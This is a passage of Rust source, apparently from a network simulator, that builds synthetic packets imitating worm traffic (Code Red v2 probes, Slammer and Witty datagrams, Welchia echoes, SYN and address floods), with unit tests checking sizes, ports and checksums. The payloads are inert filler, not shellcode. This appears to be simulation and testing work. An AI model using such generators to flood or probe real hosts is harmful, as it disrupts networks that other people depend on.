        let mut r = b"GET /default.ida?".to_vec();
        r.extend(std::iter::repeat_n(CODERED_FILLER, CODERED_FILLER_LEN));
        r.extend_from_slice(b" HTTP/1.0\r\n\r\n");
        r
    }

    /// One packet of a flood of an address (a population scenario's
    /// `[payload]`, Code Red's): a TCP segment (ACK, PSH) from `sender` to
    /// `target` carrying `packet_bytes - 40` bytes of filler (no fewer
    /// than none), so that its IPv4 packet is `packet_bytes` long; TTL
    /// 128, window 8760. `seq` is its sequence number, and its low bits
    /// the IPv4 identification.
    pub fn address_flood_segment(
        sender: &Station,
        target: &Station,
        ports: (u16, u16),
        seq: u32,
        packet_bytes: u32,
    ) -> Vec<u8> {
        let filler = vec![CODERED_FILLER; packet_bytes.saturating_sub(40) as usize];
        tcp_frame(
            sender,
            target,
            IpOpts {
                ttl: 128,
                ident: seq as u16,
            },
            TcpParams {
                src_port: ports.0,
                dst_port: ports.1,
                seq,
                ack: 0,
                flags: tcp_flags::ACK | tcp_flags::PSH,
                window: 8760,
            },
            &filler,
        )
    }

    /// The frames of one Code Red v2 probe (MODEL.md section 2: TCP to port
    /// 80), in order, each one crossing half a round trip after the one
    /// before: the client's SYN; where a live host holds the address
    /// (`live`), its SYN-ACK, the client's ACK, the request
    /// ([`codered_request`]), the server's ACK and a close (client FIN,
    /// server FIN, client ACK); where none does, the SYN alone (nothing
    /// answers). `flow` names the hosts, ports and initial sequence
    /// numbers.
    pub fn codered_session(flow: &mut TcpFlow, live: bool) -> Vec<Vec<u8>> {
        if !live {
            return vec![flow.syn()];
        }
        let mut out = flow.handshake();
        out.push(flow.client_data(&codered_request()));
        out.push(flow.server_ack());
        out.extend(flow.close());
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::{Decoded, TransportLayer, decode};

    fn h(s: &str) -> Station {
        Station::new(s.parse().unwrap())
    }

    #[test]
    fn an_address_flood_segment_is_its_packet_size_of_ip() {
        let f =
            worm::address_flood_segment(&h("10.1.77.3"), &h("198.137.240.91"), (3000, 80), 7, 41);
        let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &f) else {
            panic!("not IPv4")
        };
        assert_eq!((p.total_len, p.ttl), (41, 128));
        let TransportLayer::Tcp(t) = p.transport else {
            panic!("not TCP")
        };
        assert_eq!((t.src_port, t.dst_port), (3000, 80));
        assert!(!t.is_syn_only());
        assert_eq!(f.len(), 14 + 41);
        assert_eq!(f[f.len() - 1], worm::CODERED_FILLER);
    }

    #[test]
    fn flood_syn_is_40_bytes_of_ip() {
        let f = worm::flood_syn(
            [2; 6],
            [4; 6],
            "10.1.77.3".parse().unwrap(),
            "203.0.113.80".parse().unwrap(),
            1234,
            99,
        );
        assert_eq!(f.len(), 14 + 40);
        let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &f) else {
            panic!()
        };
        assert_eq!((p.total_len, p.ttl), (40, 128));
        let TransportLayer::Tcp(t) = p.transport else {
            panic!()
        };
        assert_eq!((t.dst_port, t.src_port, t.window), (80, 1234, 16384));
        assert!(t.is_syn_only());
    }

    #[test]
    fn welchia_echo_is_92_bytes_of_ip() {
        let f = worm::welchia_echo(&h("10.0.0.5"), &h("10.0.0.6"), 1, 2);
        let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &f) else {
            panic!()
        };
        assert_eq!(p.total_len, 92);
        let TransportLayer::Icmp(i) = p.transport else {
            panic!()
        };
        assert_eq!(i.icmp_type, 8);
        assert!(i.payload.len() == 64 && i.payload.iter().all(|&b| b == 0xAA));
    }

    /// The IPv4 header and transport checksums of a frame are right, and
    /// its UDP ports and payload are what the decoder reads.
    fn udp_checked(f: &[u8]) -> (u16, u16, Vec<u8>, u16) {
        let p = etherparse::SlicedPacket::from_ethernet(f).unwrap();
        let Some(etherparse::NetSlice::Ipv4(ip)) = p.net else {
            panic!()
        };
        let hdr = ip.header().to_header();
        assert_eq!(hdr.header_checksum, hdr.calc_header_checksum());
        assert_eq!(hdr.protocol, etherparse::IpNumber::UDP);
        let Some(etherparse::TransportSlice::Udp(u)) = p.transport else {
            panic!()
        };
        let calc = u.to_header().calc_checksum_ipv4(&hdr, u.payload()).unwrap();
        assert_eq!(u.checksum(), calc);
        let Decoded::Ipv4(d) = decode(LinkType::ETHERNET, f) else {
            panic!()
        };
        let TransportLayer::Udp(du) = d.transport else {
            panic!()
        };
        assert_eq!(du.payload, u.payload());
        (
            u.source_port(),
            u.destination_port(),
            u.payload().to_vec(),
            d.total_len,
        )
    }

    #[test]
    fn slammer_datagram_is_376_bytes_to_1434_of_filler() {
        let f = worm::slammer_datagram(
            &h("10.0.0.1"),
            &h("44.1.2.3"),
            3001,
            worm::SLAMMER_PORT,
            worm::SLAMMER_PAYLOAD_LEN,
            7,
        );
        let (sport, dport, payload, total) = udp_checked(&f);
        assert_eq!((sport, dport), (3001, 1434));
        assert_eq!(payload.len(), 376);
        // The scenario's packet_bytes: 376 + 8 + 20.
        assert_eq!(total, 404);
        assert_eq!(payload[0], 0x04);
        assert!(payload[1..].iter().all(|&b| b == worm::FILLER));
    }

    #[test]
    fn witty_datagram_is_from_4000_with_its_length() {
        for len in [
            *worm::WITTY_PAYLOAD_LEN.start(),
            *worm::WITTY_PAYLOAD_LEN.end(),
        ] {
            let f = worm::witty_datagram(
                &h("10.0.0.1"),
                &h("44.1.2.3"),
                worm::WITTY_SRC_PORT,
                31337,
                len,
                9,
            );
            let (sport, dport, payload, total) = udp_checked(&f);
            assert_eq!((sport, dport), (4000, 31337));
            assert_eq!(payload.len(), len);
            assert_eq!(usize::from(total), len + 28);
            assert!(payload.iter().all(|&b| b == worm::FILLER));
        }
    }

    #[test]
    fn codered_session_is_a_syn_alone_or_a_whole_session() {
        let (c, s) = (h("10.0.0.1"), h("44.1.2.3"));
        let mut flow = TcpFlow::new(c, 1200, s, worm::CODERED_PORT);
        let alone = worm::codered_session(&mut flow, false);
        assert_eq!(alone.len(), 1);
        let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &alone[0]) else {
            panic!()
        };
        let TransportLayer::Tcp(t) = p.transport else {
            panic!()
        };
        assert!(t.is_syn_only());
        assert_eq!((t.src_port, t.dst_port), (1200, 80));

        let mut flow = TcpFlow::new(c, 1201, s, worm::CODERED_PORT);
        let frames = worm::codered_session(&mut flow, true);
        assert_eq!(frames.len(), 8);
        let want = [
            (true, tcp_flags::SYN),
            (false, tcp_flags::SYN | tcp_flags::ACK),
            (true, tcp_flags::ACK),
            (true, tcp_flags::PSH | tcp_flags::ACK),
            (false, tcp_flags::ACK),
            (true, tcp_flags::FIN | tcp_flags::ACK),
            (false, tcp_flags::FIN | tcp_flags::ACK),
            (true, tcp_flags::ACK),
        ];
        let request = worm::codered_request();
        for (f, (from_client, flags)) in frames.iter().zip(want) {
            let sp = etherparse::SlicedPacket::from_ethernet(f).unwrap();
            let Some(etherparse::NetSlice::Ipv4(ip)) = sp.net else {
                panic!()
            };
            let hdr = ip.header().to_header();
            assert_eq!(hdr.header_checksum, hdr.calc_header_checksum());
            let Some(etherparse::TransportSlice::Tcp(tcp)) = sp.transport else {
                panic!()
            };
            let calc = tcp
                .to_header()
                .calc_checksum_ipv4(&hdr, tcp.payload())
                .unwrap();
            assert_eq!(tcp.checksum(), calc);
            let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, f) else {
                panic!()
            };
            let TransportLayer::Tcp(t) = p.transport else {
                panic!()
            };
            assert_eq!(t.flags, flags);
            let ports = if from_client { (1201, 80) } else { (80, 1201) };
            assert_eq!((t.src_port, t.dst_port), ports);
            if flags & tcp_flags::PSH != 0 {
                assert_eq!(t.payload, &request[..]);
            } else {
                assert!(t.payload.is_empty());
            }
        }
        let text = String::from_utf8(request).unwrap();
        assert!(text.starts_with("GET /default.ida?NNNN"), "{text}");
        assert!(text.ends_with("N HTTP/1.0\r\n\r\n"), "{text}");
        assert_eq!(
            text.len(),
            "GET /default.ida?".len() + worm::CODERED_FILLER_LEN + " HTTP/1.0\r\n\r\n".len()
        );
    }

    #[test]
    fn checksums_are_correct() {
        let mut flow = TcpFlow::new(h("10.0.0.1"), 1025, h("10.0.0.2"), 135);
        flow.handshake();
        let f = flow.client_data(&worm::dcerpc_bind(1));
        let p = etherparse::SlicedPacket::from_ethernet(&f).unwrap();
        let Some(etherparse::NetSlice::Ipv4(ip)) = p.net else {
            panic!()
        };
        let hdr = ip.header().to_header();
        assert_eq!(hdr.header_checksum, hdr.calc_header_checksum());
        let Some(etherparse::TransportSlice::Tcp(t)) = p.transport else {
            panic!()
        };
        let calc = t.to_header().calc_checksum_ipv4(&hdr, t.payload()).unwrap();
        assert_eq!(t.checksum(), calc);
    }
}
